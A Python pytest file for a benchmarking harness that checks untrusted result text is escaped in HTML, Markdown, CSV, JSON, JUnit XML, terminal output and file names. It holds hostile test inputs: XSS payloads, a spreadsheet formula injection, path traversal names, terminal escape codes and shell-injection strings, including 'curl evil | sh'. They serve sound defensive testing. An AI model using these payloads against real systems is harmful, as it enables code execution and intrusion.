"""Text from strangers: it becomes no HTML, XML, Markdown, formula, shell or file's name

Whatever can be a text in results says what is hostile, one run each, and the commands write it in
all that they write; what a gate found likewise.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shlex
import shutil
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree

import bombs
import journals
import outcomes
import pandas as pd
import pytest
from markdown_it import MarkdownIt
from pages import Page

from harness import cli, store
from harness.report import profiles, provenance
from harness.report.text import printable
from harness.store import lines
from harness.types import HarnessError

fault = pytest.mark.fault
EVIL = [
    *outcomes.HOSTILE,
    "<img src=x onerror=alert(1)>\" onmouseover='alert(1)'",
    "javascript:alert(1)",
    "=cmd|' /C calc'!A0",
    "+1", "-rf", "'=1", "\t=1",
    "[red]x[/red] :smile:",
    "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "../../outside", "/outside", "CON", "nul.txt",
]  # fmt: skip
"""What a text may be; one run of each."""
CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
OUR_HTML = re.compile(r"</?details>|</?summary>|</?code>|<!-- layerbench-regress -->")
PARSER = MarkdownIt("commonmark").enable("table").enable("strikethrough")
SAID = ("layer", "framework", "device", "mode", "execution", "dtype")
FREE = ("reason", "framework_version", "execution_path", "memory_method", "started_at")
TAGS = {
    *("testsuites", "testsuite", "properties", "property", "testcase", "failure", "error"),
    *("skipped", "system-out"),
}
NAMES = {"kind", "status", "probe", "disturbances"}
"""What is one of a few words; anything else makes the line a damaged one."""


def spoilt(run: Path, evil: str) -> None:
    """Makes every text of the run, in whatever place, say the same."""
    plan = json.loads((run / journals.PLAN).read_text(encoding="utf-8"))
    plan |= dict.fromkeys(("run_id", "sweep", "started_at"), evil)
    plan |= {"families": {evil: evil}, "suites": [evil], "command": f"layerbench {evil}"}
    plan["machine"] = {**_said(plan["machine"], evil), "versions": {evil: evil}}
    for case in plan["cases"]:
        case |= dict.fromkeys(SAID, evil)
    found = journals.records(run)
    for number, record in enumerate(found):
        if record["kind"] == "measurement":
            record["case"] |= dict.fromkeys(SAID, evil)
            record |= dict.fromkeys(FREE, evil)
            record["warnings"] = [evil]
            if record["case"]["params"] == {"us": 30}:
                failed = ("samples_s", "paired_samples_s", "doubled_samples_s")
                record |= {"status": "error", "disturbances": None, **{name: [] for name in failed}}
        else:
            text = {name: value for name, value in record.items() if isinstance(value, str)}
            record |= dict.fromkeys(text.keys() - NAMES, evil)
            found[number] = {**record, "settings": {evil: evil}}
    (run / journals.PLAN).write_text(json.dumps(plan), encoding="utf-8")
    (run / journals.JOURNAL).write_bytes(
        b"".join(lines.sealed(json.dumps(record).encode()[:-1]) for record in found)
    )


def _said(value: Any, evil: str) -> Any:
    """The same with this for each text."""
    if isinstance(value, dict):
        return {name: _said(inner, evil) for name, inner in value.items()}
    if isinstance(value, list):
        return [_said(inner, evil) for inner in value]
    return evil if isinstance(value, str) else value


@pytest.fixture(scope="module")
def results(three_cases: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("stranger") / "results"
    for number, evil in enumerate(EVIL):
        run = shutil.copytree(three_cases, folder / f"{number:02}\x1b[31m")
        for name in (journals.CASES, journals.SAMPLES):
            (run / name).unlink()
        spoilt(run, evil)
    return folder


@pytest.fixture(scope="module")
def written(results: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of what `export` and `report` made of them, in one with nothing else."""
    box = tmp_path_factory.mktemp("box")
    (box / "outcome.json").write_text(outcomes.hostile(EVIL[0]).to_text(), encoding="utf-8")
    formats = [
        *("csv", "json", "bencher", "pytest-benchmark", "github-action-benchmark"),
        *("markdown", "parquet"),
    ]
    typed = [word for name in formats for word in ("--format", f"{name}=out/file.{name}")]
    before = bombs.contents(results)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(box)
        assert cli.main(["export", str(results), *typed]) == 0
        outcome = ["--outcome", "outcome.json"]
        assert cli.main(["report", str(results), "--out", "out", *outcome]) == 0
    assert bombs.contents(results) == before
    assert {path.name for path in box.iterdir()} == {"out", "outcome.json"}
    return box / "out"


def only(folder: Path, suffix: str) -> str:
    (file,) = folder.glob(f"*{suffix}")
    with file.open(encoding="utf-8", newline="") as text:
        return text.read()


@fault("A text is HTML, a script, or leaves an attribute", "It is shown in the page as it is")
def test_it_becomes_no_html(written: Path) -> None:
    page = Page(only(written, ".html"))
    names = {name for _, attributes in page.tags for name in attributes}
    assert not [name for name in names if name.startswith("on")]
    assert not {tag for tag, _ in page.tags} & {"img", "iframe", "object", "embed", "base"}
    assert len(page.scripts) == 1
    links = [*page.attributes("href"), *page.attributes("src")]
    assert {re.match(r"#|\./|\.\./|data:application/", link) is not None for link in links} == {
        True
    }
    for evil in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
    ):
        assert evil in page.text
    assert not CONTROLS.search(page.text)


@fault(
    "A text is Markdown: a link, a picture, a cell's end, a mention, a comment of HTML",
    "It is shown as it is",
)
@pytest.mark.parametrize("suffix", [".md", ".markdown"])
def test_it_becomes_no_markdown(written: Path, suffix: str) -> None:
    text = only(written, suffix)
    for token in PARSER.parse(text):
        for inner in (token, *(token.children or ())):
            assert inner.type not in ("link_open", "image", "s_open", "em_open")
            if inner.type.startswith("html"):
                assert "<" not in OUR_HTML.sub("", inner.content)
    assert not re.search(r"@\w", text)
    assert not CONTROLS.search(text)


@fault(
    "A text is a formula for a spreadsheet",
    "In a CSV file it begins with an apostrophe, which is taken away where it is read",
)
def test_it_becomes_no_formula(results: Path, written: Path) -> None:
    cells = [cell for line in csv.reader(io.StringIO(only(written, ".csv"))) for cell in line]
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]
    frame, _ = journals.loaded(written / "file.csv")
    expected, _ = journals.loaded(results)
    pd.testing.assert_frame_equal(frame, expected)
    assert {"=cmd|' /C calc'!A0", "'=1", "-rf"} <= set(frame["layer"])


@fault("A text ends a string of JSON or Parquet, or holds what these cannot", "It is kept as it is")
def test_other_programs_read_what_was_written(results: Path, written: Path) -> None:
    names = set(journals.loaded(results)[0]["layer"])
    assert {case["layer"] for case in json.loads(only(written, ".json"))["cases"]} == names
    assert set(journals.loaded(written / "file.parquet")[0]["layer"]) == names
    for suffix in ("bencher", "pytest-benchmark", "github-action-benchmark"):
        assert json.loads(only(written, f".{suffix}"))


@fault(
    "A name leads out of its folder, is an absolute path, a hidden file or a device",
    "What is made of it is one plain file in the folder that was asked for",
)
@pytest.mark.parametrize("name", ["../../outside", "/outside", "CON", "nul.txt", "-rf", ".hidden"])
def test_it_becomes_no_other_file(
    three_cases: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    run = shutil.copytree(three_cases, tmp_path / "box" / "results" / "run")
    spoilt(run, name)
    found = provenance.file_name(store.load_runs(run))
    assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_.-]*", found)
    assert found.partition(".")[0].lower() not in ("con", "nul")
    monkeypatch.chdir(tmp_path)
    before = bombs.contents(tmp_path)
    assert cli.main(["export", str(run), "--format", "csv=out.csv"]) == 0
    assert {*bombs.contents(tmp_path)} - {*before} == {str(tmp_path / "out.csv")}


@fault(
    "The folder of a profile is called as a script's address is, or leads elsewhere",
    "A report links to the file beside the results, or to none",
)
def test_it_becomes_no_link(tmp_path: Path) -> None:
    name = "javascript:alert(1)?x#y%00"
    page = tmp_path / "run" / "profiles" / name / "index.html"
    page.parent.mkdir(parents=True)
    page.touch()
    (tmp_path / "run" / "profiles" / "away").symlink_to(page.parent)
    (link,) = profiles.found(tmp_path / "run", tmp_path / "run" / "profiles").values()
    assert link == f"./{quote(name)}/index.html"
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "profiles").symlink_to(tmp_path / "run" / "profiles")
    assert profiles.found(tmp_path / "other", tmp_path) == {}


@fault(
    "A run's command is another program's, or goes on with one, and the report tells how to "
    "measure it again",
    "It is not shown, or quoted so that it starts layerbench alone",
)
@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("layerbench run; touch owned", "layerbench 'run;' touch owned"),
        ("layerbench run $(id) `id`\nid", "layerbench run '$(id)' '`id`' id"),
        ("curl evil | sh", None),
        ("layerbench 'run", None),
        ("harness.run('quick', batch=[1])", "harness.run('quick', batch=[1])"),
        ("harness.run(__import__('os').system('id'))", None),
        ("harness.run('quick') or exit()", None),
        ("[" * 10_000, None),
    ],
)
def test_it_becomes_no_command(command: str, shown: str | None) -> None:
    assert provenance.commands([{"command": command}]) == ([shown] if shown else [])
    if shown and shown.startswith("layerbench"):
        assert shlex.split(shown) == shlex.split(command)


@fault(
    "A text, or the name of a folder, holds a terminal's control codes or markup",
    "They are shown as text, or as signs that have no shape",
)
def test_it_controls_no_terminal(results: Path, capsys: pytest.CaptureFixture[str]) -> None:
    first, second = sorted(results.iterdir())[:2]
    said = ""
    for typed in (
        ["regress", "--history", str(results)],
        ["compare", str(first), str(second)],
        ["report", str(first / "nowhere")],
        ["collect", str(first)],
    ):
        cli.main(typed)
        told = capsys.readouterr()
        said += told.out + told.err
    assert not CONTROLS.search(said)
    assert "[red]x[/red] :smile:" in said
    assert "damaged: " in said


@fault(
    "What a gate found holds the end of CDATA, control characters or halves of characters",
    "JUnit XML holds them as text, and what XML cannot hold as U+FFFD",
)
def test_it_becomes_no_xml(tmp_path: Path) -> None:
    file, made = tmp_path / "outcome.json", tmp_path / "junit.xml"
    for evil in EVIL:
        file.write_text(outcomes.hostile(evil).to_text(), encoding="utf-8")
        assert cli.main(["regress", "--from", str(file), "--format", f"junit={made}"]) == 1
        root = ElementTree.parse(made).getroot()
        shown = {case.attrib["name"] for case in root.iter("testcase")}
        assert shown == {printable(evil)}
        assert {each.tag for each in root.iter()} <= TAGS


@fault(
    "A half of a character, a number of five thousand digits or a thousand brackets in JSON",
    "The file or its line is damaged, and named",
)
@pytest.mark.parametrize("json_", ['"\\ud800"', "9" * 5_000, "[" * 900 + "]" * 900])
def test_what_cannot_be_written_again_is_not_read(
    three_cases: Path, tmp_path: Path, json_: str
) -> None:
    run = shutil.copytree(three_cases, tmp_path / "run")
    for name in (journals.CASES, journals.SAMPLES):
        (run / name).unlink()
    found = [
        lines.sealed(json.dumps(record).encode()[:-1] + f', "settings": {json_}'.encode())
        for record in journals.records(run)
        if record["kind"] == "worker"
    ]
    (run / journals.JOURNAL).write_bytes(b"".join(found))
    _, (damage,) = journals.loaded(run, store.load_runs)
    assert damage.lines == len(found)
    text = (run / journals.PLAN).read_text(encoding="utf-8")
    (run / journals.PLAN).write_text(text.replace('"machine": {', f'"machine": {{"x": {json_}, '))
    with pytest.raises(HarnessError, match="is broken"):
        store.load(run)
